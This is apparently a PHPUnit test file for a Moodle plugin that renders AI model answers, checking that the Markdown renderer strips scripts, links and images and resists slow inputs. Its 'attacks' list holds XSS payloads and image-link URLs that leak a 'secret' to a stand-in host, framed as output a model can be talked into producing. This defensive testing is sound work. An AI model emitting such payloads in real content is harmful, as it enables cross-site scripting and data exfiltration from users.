<?php
// This file is part of Moodle - https://moodle.org/
//
// Moodle is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// Moodle is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with Moodle.  If not, see <https://www.gnu.org/licenses/>.

namespace local_aisidecar;

use local_aisidecar\local\rendering;

/**
 * Tests of what becomes of untrusted text.
 *
 * @package    local_aisidecar
 * @copyright  2026 the authors of openai-moodle-sidecar
 * @license    https://www.gnu.org/copyleft/gpl.html GNU GPL v3 or later
 * @covers \local_aisidecar\local\rendering
 */
final class rendering_test extends \advanced_testcase {
    #[\Override]
    protected function setUp(): void {
        parent::setUp();
        $this->resetAfterTest();
    }

    public function test_markdown_becomes_html(): void {
        $html = $this->render("# Primes\n\n**2** is *even*.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        foreach (['<h4>Primes</h4>', '<strong>2</strong>', '<em>even</em>', '<li>one</li>', '<td>1</td>'] as $part) {
            $this->assertStringContainsString($part, $html);
        }
    }

    /**
     * Gives what a model can be talked into.
     *
     * @return array[]
     */
    public static function attacks(): array {
        return [
            ['<script>alert(1)</script>'],
            ['<img src=x onerror=alert(1)>'],
            ['<svg/onload=alert(1)>'],
            ['[click](javascript:alert(1))'],
            ['<javascript:alert(1)>'],
            ['![x](https://evil.example/?q=secret)'],
            ["![x][1]\n\n[1]: https://evil.example/?q=secret"],
            ['<iframe src="https://evil.example"></iframe>'],
            ['<style>@import url(https://evil.example)</style>'],
            ['<a href="https://evil.example">x</a>'],
            ['[x](https://evil.example/?q=secret)'],
            ['<https://evil.example/?q=secret>'],
            ['https://evil.example/?q=secret'],
            ['[x](//evil.example/?q=secret)'],
            ["\x60\x60\x60\n<img src=x onerror=alert(1)>\n\x60\x60\x60"],
            ["\x60<img src=x onerror=alert(1)>\x60"],
            ['\\(<img src=x onerror=alert(1)>\\)'],
            ['$$</span><img src=x onerror=alert(1)>$$'],
            ['[x]: <javascript:alert(1)> "<img src=x>"'],
            ["\xff<img src=x onerror=alert(1)>"],
            ['# x {#id .class onclick=alert(1)}'],
            ['![x](data:image/svg+xml;base64,PHN2Zz4=)'],
            ['[x](data:text/html,<script>alert(1)</script>)'],
            ["<div markdown=\"1\">![x](https://evil.example)</div>"],
            ['# x {.modal-backdrop .show}'],
            ['[x](https://evil.example){.fixed-top}'],
            ["\x60\x60\x60js {.fixed-top}\ny\n\x60\x60\x60"],
            ['\\(\\href{https://evil.example/?q=secret}{click}\\)'],
            ['$$\\class{fixed-top}{x}$$'],
        ];
    }

    /**
     * Tests it.
     *
     * @dataProvider attacks
     * @param string $text
     */
    public function test_nothing_runs_loads_or_leads_away(string $text): void {
        filter_set_global_state('urltolink', TEXTFILTER_ON);
        filter_set_global_state('mathjaxloader', TEXTFILTER_ON);
        filter_set_global_state('mediaplugin', TEXTFILTER_ON);
        $html = $this->marked($text);
        $document = new \DOMDocument();
        @$document->loadHTML('<?xml encoding="UTF-8"><div>' . $html . '</div>');
        foreach (['script', 'img', 'svg', 'iframe', 'style', 'a', 'object', 'video', 'audio', 'link', 'form'] as $tag) {
            $this->assertSame(0, $document->getElementsByTagName($tag)->length, "$tag in $html");
        }
        foreach ((new \DOMXPath($document))->query('//@*') as $attribute) {
            $this->assertSame('class', $attribute->nodeName, $html);
            $ours = ['nolink', 'filter_mathjaxloader_equation', 'table', 'table-sm', 'table-responsive'];
            $this->assertSame([], array_diff(explode(' ', $attribute->value), $ours), $html);
        }
    }

    public function test_address_stays_to_be_read(): void {
        $html = $this->render('See [the source](https://example.com/a).');
        $this->assertStringContainsString('the source (https://example.com/a)', $html);
        $this->assertStringContainsString('https://example.com/b', $this->render('See https://example.com/b'));
        $this->assertStringContainsString('a chart', $this->render('![a chart](https://example.com/c.png)'));
    }

    public function test_link_to_this_site_stays(): void {
        global $CFG;
        $html = $this->render("[the course]($CFG->wwwroot/course/view.php?id=2)");
        $this->assertStringContainsString("<a href=\"$CFG->wwwroot/course/view.php?id=2\"", $html);
        $this->assertStringNotContainsString('<a ', $this->render("[x]({$CFG->wwwroot}.evil.example/)"));
    }

    public function test_code_is_shown_as_it_is(): void {
        $text = "'''html\n<p class=\"a\">\$x\$ & \$\$y\$\$</p>\n'''\nUse 'List<String>' and 'a_b_c'.";
        $html = $this->render(strtr($text, "'", "\x60"));
        $this->assertStringContainsString('&lt;p class="a"&gt;$x$ &amp; $$y$$&lt;/p&gt;', $html);
        $this->assertStringContainsString('<code>List&lt;String&gt;</code>', $html);
        $this->assertStringContainsString('<code>a_b_c</code>', $html);
    }

    public function test_signs_that_turn_or_hide_words_are_dropped(): void {
        $this->assertStringContainsString('<p>abcd</p>', $this->render("a\u{202E}b\u{2066}c\u{E0041}d"));
    }

    public function test_angle_brackets_outside_of_code_stay(): void {
        $html = $this->render('if a<b and c>d, List<String>');
        $this->assertStringContainsString('if a&lt;b and c&gt;d, List&lt;String&gt;', $html);
    }

    /**
     * Gives formulas, and what must be left of them.
     *
     * @return array[]
     */
    public static function formulas(): array {
        return [
            ['\\(a_1 * b_2 * c\\)', '\\(a_1 * b_2 * c\\)'],
            ["\\[\n\\frac{1}{2}\n\\]", "\\[\n\\frac{1}{2}\n\\]"],
            ['$$x_1 + x_2 < 3$$', '$$x_1 + x_2 &lt; 3$$'],
            ['It is $x_1 + x_2$.', 'It is \\(x_1 + x_2\\).'],
            ['$5 and $6 are prices', '$5 and $6 are prices'],
            ['Set $HOME and $PATH', 'Set $HOME and $PATH'],
        ];
    }

    /**
     * Tests them.
     *
     * @dataProvider formulas
     * @param string $text
     * @param string $expected
     */
    public function test_formulas_come_through_markdown(string $text, string $expected): void {
        $this->assertStringContainsString($expected, $this->render($text));
    }

    public function test_formulas_are_set_where_the_site_does_that(): void {
        filter_set_global_state('mathjaxloader', TEXTFILTER_ON);
        \core_filters\filter_manager::reset_caches();
        $this->assertStringContainsString('filter_mathjaxloader_equation', $this->marked('It is \\(x^2\\).'));
    }

    public function test_formula_that_changes_others_or_leads_away_is_text(): void {
        foreach (['\\href{https://evil.example}{x}', '\\def\\x{y}', '\\renewcommand{\\x}{y}', '\\require{x}'] as $formula) {
            $html = $this->render("It is \\($formula\\).");
            $this->assertStringContainsString('<code>' . s($formula) . '</code>', $html);
            $this->assertStringNotContainsString('\\(', $html);
        }
        $this->assertStringContainsString('\\(\\left(\\frac{\\mathrm{d}x}{\\delta}\\right)\\)', $this->render(
            '\\(\\left(\\frac{\\mathrm{d}x}{\\delta}\\right)\\)',
        ));
    }

    /**
     * Gives lists as models write them.
     *
     * @return array[]
     */
    public static function lists(): array {
        return [
            'without an empty line' => ["Key points:\n- one\n- two\n\nSo.", 'p ul li li p'],
            'steps of two' => ["- a\n  - b\n    - c\n- d", 'ul li ul li ul li li'],
            'steps of four' => ["1. a\n    - b\n2. c", 'ol li ul li li'],
            'with empty lines' => ["- a\n\n- b\n\n\n- c", 'ul li li li'],
            'with code' => ["1. a\n   ~~~\n   x\n   ~~~\n2. b", 'ol li p pre code li'],
            'with a rule' => ["* a\n---\nb", 'ul li hr p'],
            'with a sentence' => ["- a\n\n  more\n- b", 'ul li p p li'],
        ];
    }

    /**
     * Tests them.
     *
     * @dataProvider lists
     * @param string $text
     * @param string $tags
     */
    public function test_lists_are_lists(string $text, string $tags): void {
        preg_match_all('~<([a-z]+\d?)\b~', $this->render($text), $found);
        $this->assertSame($tags, implode(' ', $found[1]));
    }

    /**
     * Gives texts that are much work for those who do it badly.
     *
     * @return array[]
     */
    public static function bombs(): array {
        return [
            'quotations' => [str_repeat('> ', 30_000)],
            'lists' => [implode("\n", array_map(static fn(int $i): string => str_repeat('  ', $i) . '- x', range(0, 240)))],
            'stars' => [str_repeat('**a ', 15_000)],
            'links' => [str_repeat('[a](', 15_000)],
            'ticks' => [str_repeat("\x60\$\\( ", 12_000)],
            'a table' => [str_repeat(str_repeat('|-', 50) . "|\n", 600)],
            'abbreviations' => [implode("\n", array_map(static fn(int $i): string => "*[w$i]: t", range(0, 4000)))],
            'more than anybody reads' => [str_repeat('[a](**', 100_000)],
        ];
    }

    /**
     * Tests them.
     *
     * @dataProvider bombs
     * @param string $text
     */
    public function test_no_text_takes_long(string $text): void {
        $begun = hrtime(true);
        $this->render($text);
        $this->assertLessThan(10, (hrtime(true) - $begun) / 1e9);
    }

    public function test_long_and_broken_text_is_shown(): void {
        $this->assertStringContainsString('end', $this->render(str_repeat("\x60\$\\( ", 2_000) . 'end'));
        $this->assertSame('', $this->render(" \n"));
        $this->assertStringContainsString('ünïcödé 😀', $this->render('ünïcödé 😀'));
    }

    public function test_what_people_write_is_no_markup(): void {
        $html = rendering::plain("a < b\n**c** https://example.com", \context_system::instance());
        $this->assertStringContainsString('a &lt; b', $html);
        $this->assertStringContainsString('**c** https://example.com', $html);
    }

    /**
     * Renders an answer.
     *
     * @param string $text
     * @return string
     */
    private function render(string $text): string {
        // Where the site sets formulas, they are marked.
        $marks = '~<span class="(?:nolink|filter_mathjaxloader_equation)">|</span>~';
        return preg_replace($marks, '', $this->marked($text));
    }

    /**
     * Renders an answer, and leaves it as it is.
     *
     * @param string $text
     * @return string
     */
    private function marked(string $text): string {
        return rendering::answer($text, \context_system::instance());
    }
}
